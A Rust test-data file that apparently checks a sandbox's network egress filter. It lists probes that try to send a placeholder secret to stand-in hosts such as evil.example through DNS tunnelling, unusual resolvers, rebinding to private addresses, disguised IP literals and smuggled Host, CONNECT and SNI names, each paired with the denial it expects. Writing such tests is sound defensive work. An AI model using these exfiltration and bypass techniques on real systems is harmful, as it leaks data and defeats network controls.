//! Rows about names: which host is meant, who resolves it, and what a query may carry. Played by [`super::network`].

use super::Row;

/// What is allowed.
const GOOD: &str = "req https://good.example/hello | fine 'welcome /hello'";

pub const ROWS: &[Row] = &[
    Row::new(
        "a host off the list",
        "req https://evil.example/s3cr3t",
        &["403", "x-bb-deny: route_missing", "evil.example"],
    )
    .denied("route_missing", "evil.example")
    .twin(GOOD)
    .covers(&[4]),
    Row::new("a name that only ends like one on the list", "req https://evilgood.example/", &["route_missing"])
        .denied("route_missing", "evilgood.example")
    .covers(&[9]),
    Row::new("a name below one on the list", "req https://sub.good.example/", &["route_missing"])
        .denied("route_missing", "sub.good.example")
    .covers(&[9]),
    Row::new("a name on the list, written otherwise", "req https://GOOD.example./hello", &["welcome /hello"])
        .comes("the answer: it is one name")
    .covers(&[6]),
    Row::new("an IP address in other words", "req http://0x08080808/s; req http://134744072/s", &[])
        .each(&[("x-bb-deny: ip_literal", 2)])
    .covers(&[8]),
    Row::new("DNS over UDP elsewhere, with a secret", "try dns 8.8.8.8 udp s3cr3t-1.evil.example 16", &["rcode 0"])
        .denied("protocol_unknown", "s3cr3t-1.evil.example.")
        .twin("try dns 8.8.8.8 udp good.example 1 | fine 'address 198.1[89]'")
    .covers(&[2, 10]),
    Row::new("DNS over TCP elsewhere, with a secret", "try dns 8.8.8.8 tcp s3cr3t-2.evil.example 16", &["rcode 0"])
        .denied("protocol_unknown", "s3cr3t-2.evil.example.")
        .twin("try dns 8.8.8.8 tcp good.example 1 | fine 'address 198.1[89]'")
    .covers(&[2, 10]),
    Row::new("DNS over IPv6", "try dns 2001:4860:4860::8888 udp s3cr3t-3.evil.example 1", &["address 198.1"])
    .comes("a computed address, no look-up")
    .covers(&[2]),
    Row::new("bytes that are no DNS on port 53", "try tcp 1.1.1.1 53 s3cr3ts3cr3ts3cr3t", &["connected"])
    .comes("nothing: the connection is closed")
    .covers(&[2]),
    Row::new("DNS over TLS", "try tcp 1.1.1.1 853 s3cr3t", &["ECONNREFUSED"]).denied("port", "1.1.1.1")
    .covers(&[3]),
    Row::new(
        "DNS over HTTPS",
        "req -k 'https://1.1.1.1/dns-query?name=s3cr3t.evil.example'",
        &["x-bb-deny: ip_literal"],
    )
    .covers(&[3]),
    Row::new(
        "a name with a secret in it",
        "getent hosts s3cr3t-4.evil.example; req https://s3cr3t-4.evil.example/",
        &["198.1", "x-bb-deny: route_missing"],
    )
    .twin("getent hosts good.example | fine '198.1[89]'")
    .covers(&[1]),
    Row::new(
        "a listed name of a private address",
        "req https://rebind.example/s3cr3t",
        &["x-bb-deny: private_address"],
    )
    .covers(&[5]),
    Row::new("a listed name that there is not", "req https://gone.example/", &["x-bb-deny: resolve_failed"]),
    Row::new("other resolvers", "for s in 9.9.9.9 208.67.222.222 1.0.0.1; do try dns $s udp s3cr3t-5.evil.example 16; try dns $s tcp s3cr3t-5.evil.example 16; done", &[])
        .each(&[("rcode 0", 6), ("address", 0)])
        .covers(&[2]),
    Row::new("DNS over QUIC, mDNS and LLMNR", "try udp 1.1.1.1 853 s3cr3t; try send 224.0.0.251 5353 60; try send 224.0.0.252 5355 60", &[
        "ECONNREFUSED",
    ])
    .each(&[("got", 0)])
    .comes("`ECONNREFUSED`, or nothing at all (a datagram to a group)")
    .covers(&[3]),
    Row::new("a query of a kind that carries much", "for k in 10 12 15 33 255; do try dns 8.8.8.8 udp s3cr3t-6.evil.example $k; done", &[])
        .each(&[("rcode 0", 5), ("address", 0)])
        .covers(&[10]),
    Row::new("a name's reverse", "try dns 8.8.8.8 udp 8.8.8.8.in-addr.arpa 12", &["rcode 0"]).covers(&[10]),
    Row::new("two questions in one query", "try questions 8.8.8.8 good.example s3cr3t-7.evil.example", &["rcode 5 answers 0"])
        .twin("try questions 8.8.8.8 good.example | fine 'rcode 0 answers 1'")
        .comes("`REFUSED`")
        .covers(&[10]),
    Row::new("a label longer than a label can be", "try dns 8.8.8.8 udp s3cr3tpaddingpaddingpaddingpaddingpaddingpaddingpaddingpaddingpadding.evil.example 1", &[
        "rcode 1",
    ])
    .comes("`FORMERR`")
    .covers(&[10]),
    Row::new("a method off the list on a listed name", "req -d s3cr3t https://unasked.example/", &["x-bb-deny: method"])
        .denied("method", "unasked.example")
        .covers(&[4]),
    Row::new("a name whose address changes to a private one", "req http://turning.example/first; req http://turning.example/s3cr3t", &[
        "welcome /first",
        "x-bb-deny: private_address",
    ])
    .denied("private_address", "turning.example")
    .covers(&[5]),
    Row::new("a name that is another name's, which is private", "req http://alias.example/s3cr3t", &["x-bb-deny: private_address"])
        .denied("private_address", "alias.example")
        .twin("req http://other-name.example/hello | fine 'welcome /hello'")
        .covers(&[5]),
    Row::new(
        "a Host that is escaped, of two words or with signs that names have not",
        r"for h in 'good%2eexample' 'good.example\\x5c.evil.example' 'mine@good.example' 'good.example/x' '*.good.example' 'good..example'; do try raw good.example 80 'GET /s3cr3t HTTP/1.1\r\nHost: '$h'\r\nConnection: close\r\n\r\n'; done",
        &[],
    )
    .each(&[("x-bb-deny: name_mismatch", 6)])
    .covers(&[6]),
    Row::new(
        "a name off the list in wide letters, capitals and with a dot at its end",
        r"for h in 'EVIL.example' 'evil.example.' '\xef\xbd\x85vil.example' 'e_vil.example'; do try raw good.example 80 'GET /s3cr3t HTTP/1.1\r\nHost: '$h'\r\nConnection: close\r\n\r\n'; done",
        &[],
    )
    .each(&[("HTTP/1.1 4", 4), ("x-bb-deny: ", 4)])
    .comes("refused (`ip_literal` or `name_mismatch`), each")
    .covers(&[6]),
    Row::new(
        "a NUL in the name: Host, CONNECT, TLS",
        r"try raw good.example 80 'GET /s3cr3t HTTP/1.1\r\nHost: evil.example\0.good.example\r\n\r\n'; try raw good.example 80 'CONNECT evil.example\0.good.example:443 HTTP/1.1\r\nHost: good.example\r\n\r\n'; try sni good.example 443 'evil.example\0.good.example'",
        &["alert "],
    )
    .each(&[("HTTP/1.1 400", 2)])
    .twin("try sni good.example 443 good.example | fine greeted")
    .covers(&[7]),
    Row::new(
        "a Host that is an address in disguise",
        r"for h in 127.1 0x7f.0.0.1 2130706433 0177.0.0.1 [::1] [::ffff:127.0.0.1]; do try raw good.example 80 'GET /s3cr3t HTTP/1.1\r\nHost: '$h'\r\nConnection: close\r\n\r\n'; done",
        &[],
    )
    .each(&[("x-bb-deny: ip_literal", 6)])
    .covers(&[8]),
    Row::new("a name that begins like one on the list", "req https://good.example.evil.net/s3cr3t", &["x-bb-deny: route_missing"])
        .denied("route_missing", "good.example.evil.net")
        .covers(&[9]),
    Row::new("the name above a wildcard, and one that ends like it", "req https://wild.example/s3cr3t; req https://notwild.example/s3cr3t", &[])
        .each(&[("x-bb-deny: route_missing", 2)])
        .twin("req https://a.wild.example/hello | fine 'welcome /hello'")
        .covers(&[9]),
];
